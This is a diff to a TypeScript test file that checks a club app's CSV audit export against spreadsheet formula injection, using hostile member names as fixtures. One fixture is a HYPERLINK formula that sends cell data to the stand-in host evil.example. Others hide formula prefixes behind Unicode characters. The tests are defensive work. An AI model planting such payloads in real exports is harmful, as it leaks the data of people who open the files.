@@ -2,7 +2,7 @@ import { readdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import Papa from "papaparse";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { buildAdmin, buildInvitation, buildPerson, buildSubmission } from "#server/sample/builders.ts";
+import { buildAdmin, buildInvitation, buildMember, buildPerson, buildSubmission } from "#server/sample/builders.ts";
 import { takeMails } from "#tests/support/queued-mails.ts";
 import { type Call, createTestClub, type TestClub } from "#tests/support/test-club.ts";
 import { markupShapes } from "./markup-shapes.ts";
@@ -217,21 +217,29 @@ describe("A link", () => {
 });
 
 describe("A table for spreadsheets", () => {
-  it("is written with its formulas made text", () => {
-    const rows = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"].map((cell) => [cell]);
-    const written = Papa.parse<string[]>(Papa.unparse(rows, { escapeFormulae: true })).data.flat();
-    expect(written).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1"]);
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&B2,"x\u2028y")', "'=HYPERLINK"],
+    [" =1+1", "' =1+1"],
+    ["\u2029+1", "'\u2029+1"],
+    ["\uFF1D1+1", "'\uFF1D1+1"],
+    ["\u200B@SUM(A1)", "'\u200B@SUM(A1)"],
+  ])("holds the stored name %j as text", async (full_name, expected) => {
+    const member = await buildMember(club.db, { profile: { full_name } });
+    const saved = await (await club.as(member))("PUT", "/api/member-profiles/me", { full_name: "Mina" });
+    expect(saved.status).toBe(200);
+    await club.db.updateTable("member_profiles").set({ full_name }).where("user_id", "=", member.id).execute();
+    const admin = await club.as(await buildAdmin(club.db));
+    const csv = await admin("POST", `/api/audit-events.csv?person=${member.id}`);
+    const cells = Papa.parse<string[]>(csv.body).data.flat();
+    expect(cells.filter((cell) => cell.startsWith(expected))).not.toEqual([]);
+    expect(cells.filter((cell) => /^[^\p{L}\p{N}']*[=+@\uFF1D]/u.test(cell))).toEqual([]);
   });
-  it("is written so everywhere", () => {
+  it("is written by one function", () => {
     const files = readdirSync("src", { recursive: true, encoding: "utf8" }).filter(
       (name) => /\.tsx?$/.test(name) && !name.includes(".test."),
     );
+    const writers = files.filter((name) => /\bunparse\b/.test(readFileSync(join("src", name), "utf8")));
     // What a chosen file becomes in the box of the import is read by the import alone.
-    const forTheBox = "web/admin/import/read-member-file.ts";
-    const careless = files.filter((name) => {
-      const code = readFileSync(join("src", name), "utf8");
-      return name !== forTheBox && /\bunparse\b/.test(code) && !/escapeFormulae: true/.test(code);
-    });
-    expect(careless).toEqual([]);
+    expect(writers.toSorted()).toEqual(["shared/to-csv.ts", "web/admin/import/read-member-file.ts"]);
   });
 });
